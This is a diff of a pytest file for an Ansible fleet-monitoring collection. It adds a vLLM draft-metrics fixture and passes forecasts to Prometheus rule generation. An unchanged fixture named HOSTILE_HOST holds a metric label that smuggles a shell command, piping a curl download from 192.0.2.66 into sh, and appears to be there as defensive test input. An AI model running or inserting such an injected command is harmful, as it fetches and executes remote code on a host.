@@ -27,7 +27,7 @@ from ansible_collections.gb10.fleet.plugins.module_utils._on_host import textfil
 from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring import console, dashboards, prometheus
 from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring.prometheus import Endpoint
 from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring.rules import recordings, rules
-from test_monitoring import CHAT, LIMITS, RECORDED, ROOT, SERIES, SHOWN, STATUS
+from test_monitoring import CHAT, FORECASTS, LIMITS, RECORDED, ROOT, SERIES, SHOWN, STATUS
 
 # tests/tools/bootstrap brings it; another release is tested by its folder before the others on PATH
 PROMETHEUS = shutil.which("prometheus", path=f"{os.environ['PATH']}:{ROOT}/.venv/bin")
@@ -45,6 +45,11 @@ node_network_transmit_bytes_total{{device="enp1s0f0np0"}} {now}
 node_network_receive_bytes_total{{device="enp1s0f0np0"}} {now}
 node_network_receive_errs_total{{device="enp1s0f0np0"}} 0
 node_network_receive_drop_total{{device="enp1s0f0np0"}} 0
+"""
+# Of an engine that drafts.
+OF_DRAFTS = """\
+vllm:spec_decode_num_drafts_total {now}
+vllm:spec_decode_num_accepted_tokens_total {now}
 """
 HOSTILE_HOST = r"""
 gb10_drift_differences{of="titan; curl -s http://192.0.2.66/x | sh #",severity="error"} 1
@@ -69,7 +74,7 @@ class Shown(BaseHTTPRequestHandler):
             known = self.headers.get("Authorization") == f"Bearer {KEY}"
             # the list has names alone; counters go on
             text = re.sub(r"^(?!#)(\S.*)$", rf"\1 {time.time():.0f}", SHOWN, flags=re.MULTILINE) if known else ""
-            text += HOSTILE_ENGINE if known else ""
+            text += HOSTILE_ENGINE + OF_DRAFTS.format(now=time.time()) if known else ""
         elif self.path == "/flood":
             known = True
             text = "".join(f'flood{{at="{number}"}} 1\n' for number in range(30_000))
@@ -111,7 +116,7 @@ def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     text = json.dumps(config).replace('"15s"', '"1s"').replace(prometheus.RULES, "rules.yml")
     text = text.replace(prometheus.credential("gb10-prometheus.service", "key-chat"), str(folder / "key"))
     (folder / "prometheus.yml").write_text(text)
-    (folder / "rules.yml").write_text(json.dumps(rules([SERIES], LIMITS)))
+    (folder / "rules.yml").write_text(json.dumps(rules([SERIES], LIMITS, FORECASTS)))
     (folder / "fleet.html").write_text(console.page("home", LIMITS, RECORDED))
     with socket.socket() as free:
         free.bind(("127.0.0.1", 0))
@@ -188,7 +193,7 @@ def test_an_answer_without_end_is_not_taken(url: str) -> None:
 
 def test_every_condition_of_an_alert_has_series_to_judge(url: str) -> None:
     """An alert whose selectors find nothing would be silent for ever: each one alone returns series."""
-    asked = "\n".join(rule["expr"] for group in rules([SERIES], LIMITS)["groups"] for rule in group["rules"])
+    asked = "\n".join(rule["expr"] for group in rules([SERIES], LIMITS, FORECASTS)["groups"] for rule in group["rules"])
     selectors = sorted({*re.findall(r"\b(?:gb10|node|vllm|up)(?:[_:][\w:]+)?(?:\{[^}]*\})?", asked)})
     assert len(selectors) > 20
     assert without_series(url, [one for one in selectors if "=~" not in one]) == []
